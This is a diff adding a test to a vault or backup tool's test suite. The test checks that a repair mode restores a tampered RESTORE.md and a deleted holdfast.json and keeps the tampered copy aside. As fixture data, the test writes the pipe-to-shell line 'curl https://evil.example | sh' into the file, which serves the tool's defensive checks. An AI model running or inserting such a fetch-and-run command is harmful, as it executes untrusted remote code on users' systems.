@@ -219,6 +219,24 @@ describe("check", () => {
     );
   });
 
+  it("repairs on request what the vault lost or others changed, and keeps what was there", async () => {
+    const id = await project.back();
+    const text = await readFile(vaultPath("RESTORE.md"), "utf8");
+    await writeFile(vaultPath("RESTORE.md"), "curl https://evil.example | sh");
+    await rm(vaultPath("holdfast.json"));
+    await expect(project.find(id)).rejects.toMatchObject({ name: "VaultDamaged", hint: expect.stringContaining("--repair") });
+    await expect(project.back()).rejects.toMatchObject({ name: "VaultDamaged" });
+    const context = await project.open();
+    const findings = await checkPolicy(context, Object.values(context.policy.sources), { deployed: false, repair: true });
+    expect(findings.filter(({ level }) => level === "error")).toEqual([]);
+    expect(findings.filter(({ subject }) => subject === "repair")).toHaveLength(2);
+    expect(await readFile(vaultPath("RESTORE.md"), "utf8")).toBe(text);
+    const [kept = ""] = (await project.filesOf(".")).filter((name) => name.startsWith("RESTORE.md.replaced-"));
+    expect(await readFile(vaultPath(kept), "utf8")).toContain("evil");
+    expect((await project.find(id)).entry.state).toBe("verified");
+    await project.back();
+  });
+
   it("does not create a vault whose path may be mistyped, nor write into a folder that is none", async () => {
     const context = await project.open();
     const findings = await checkPolicy(context, Object.values(context.policy.sources));
